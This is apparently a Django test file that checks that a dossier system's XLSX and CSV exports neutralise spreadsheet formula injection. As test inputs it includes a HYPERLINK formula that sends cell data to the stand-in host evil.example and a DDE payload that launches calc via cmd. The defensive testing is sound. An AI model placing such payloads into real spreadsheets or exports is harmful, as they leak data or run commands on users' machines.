"""Exports cannot run code: what users typed comes out of every XLSX and CSV as text.

The finding (issue 14): an applicant named `=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào")`
became a live formula in the tracking-book XLSX, and so did an imported code starting with "=".
"""

import csv
import io
from pathlib import Path

from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from catalog.actions import import_records
from catalog.io import read_catalog
from catalog.models import ProcedureVersion
from dossiers import actions
from dossiers.actions import Applicant, ReceivedDocument
from dossiers.importer import read_history, write_csv, write_history
from dossiers.models import Dossier
from orgs.models import AgencyKind
from testing.api import bearer, login
from testing.clock import vn
from testing.history import GOOD
from testing.world import World, make_record

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào")'
EVIL_CODE = "=1+2"
EVIL_PROCEDURE = "=cmd|' /C calc'!A0"


def _evil_history(world: World) -> None:
    """One dossier filed at the desk by EVIL_NAME, one imported with code EVIL_CODE (March 2026)."""
    actions.file_dossier(
        actor=world.desk_a,
        version=ProcedureVersion.objects.get(procedure__code="1.001193"),
        receiving_unit=world.ward_a,
        channel="1",
        applicant=Applicant("person", EVIL_NAME, "087095000123", phone="+84912345678"),
        documents=[ReceivedDocument(1)],
        at=vn(2026, 3, 2, 9),
    )
    row = {
        **GOOD,
        "code": EVIL_CODE,
        "procedure_code": "1.001193",
        "receiving_unit": world.ward_a.code,
        "received_at": "2026-03-03T09:15:00+07:00",
        "finished_at": "2026-03-03T15:00:00+07:00",
        "returned_at": "2026-03-04T08:00:00+07:00",
    }
    parsed = read_history(write_csv([row]), "h.csv")  # through the CSV, quote and all
    assert parsed.errors == []
    write_history(parsed.planned)
    assert Dossier.objects.filter(code=EVIL_CODE).exists()


def _cells(content: bytes) -> list[Cell]:
    ws = load_workbook(io.BytesIO(content)).active
    assert ws is not None
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def _text_cell(cells: list[Cell], text: str) -> Cell:
    found = [c for c in cells if isinstance(c.value, str) and text in c.value]
    assert found, f"{text!r} is not in the workbook"
    return found[0]


def test_tracking_book_xlsx_keeps_names_and_codes_as_text(world: World, client: Client) -> None:
    _evil_history(world)
    r = client.get(
        "/api/v1/units/30001/tracking-book",
        {"from": "2026-03-01", "to": "2026-03-31", "format": "xlsx"},
        **bearer(client, "desk_a"),
    )
    assert r.status_code == 200, r.content[:300]
    cells = _cells(r.content)
    name = _text_cell(cells, "HYPERLINK")
    assert (name.value, name.data_type) == (EVIL_NAME, "s")
    code = next(c for c in cells if c.value == EVIL_CODE)
    assert code.data_type == "s"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # Numbers stay numbers: the row number and the count of sets.
    assert [c.value for c in cells if c.column == 1 and c.row > 9] == [1, 2]


def test_report_xlsx_keeps_procedure_names_as_text(world: World, client: Client) -> None:
    import_records([make_record(name=EVIL_PROCEDURE)])
    _evil_history(world)
    login(client, "ioc")
    params = {"unit": "82", "start": "2026-03-01", "end": "2026-03-31", "by": "procedure"}
    r = client.get("/ioc/report/", {**params, "format": "xlsx"})
    assert r.status_code == 200
    cells = _cells(r.content)
    label = _text_cell(cells, "cmd|")
    assert (label.value, label.data_type) == (EVIL_PROCEDURE, "s")
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_catalog_export_xlsx_and_csv_cannot_run_code(world: World, tmp_path: Path) -> None:
    import_records([make_record(name=EVIL_PROCEDURE, fee_note="-2+3", legal_basis="@SUM(A1)")])
    xlsx, csv_path = tmp_path / "catalog.xlsx", tmp_path / "catalog.csv"
    call_command("export_catalog", str(xlsx), stdout=io.StringIO())
    call_command("export_catalog", str(csv_path), stdout=io.StringIO())
    cells = _cells(xlsx.read_bytes())
    for text in (EVIL_PROCEDURE, "-2+3", "@SUM(A1)"):
        cell = _text_cell(cells, text)
        assert (cell.value, cell.data_type) == (text, "s")
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["name"] == "'" + EVIL_PROCEDURE
    assert record["fee_note"] == "'-2+3"
    assert record["legal_basis"] == "'@SUM(A1)"
    assert record["code"] == "1.001193"  # harmless cells are untouched
    # Both files read back to what was exported.
    for path in (xlsx, csv_path):
        kinds = set(AgencyKind.objects.values_list("code", flat=True))
        parsed = read_catalog(path.read_bytes(), path.name, known_agency_kinds=kinds)
        assert parsed.errors == []
        assert [(r.name, r.fee_note, r.legal_basis) for r in parsed.records] == [
            (EVIL_PROCEDURE, "-2+3", "@SUM(A1)")
        ]


def test_history_csv_neutralises_formula_cells() -> None:
    rows = [{**GOOD, "code": EVIL_CODE, "receiving_unit": "+84", "outcome": "@x"}]
    line = write_csv(rows).decode().splitlines()[1]
    assert line.startswith("'=1+2,")
    assert ",'+84," in line and line.endswith(",'@x")
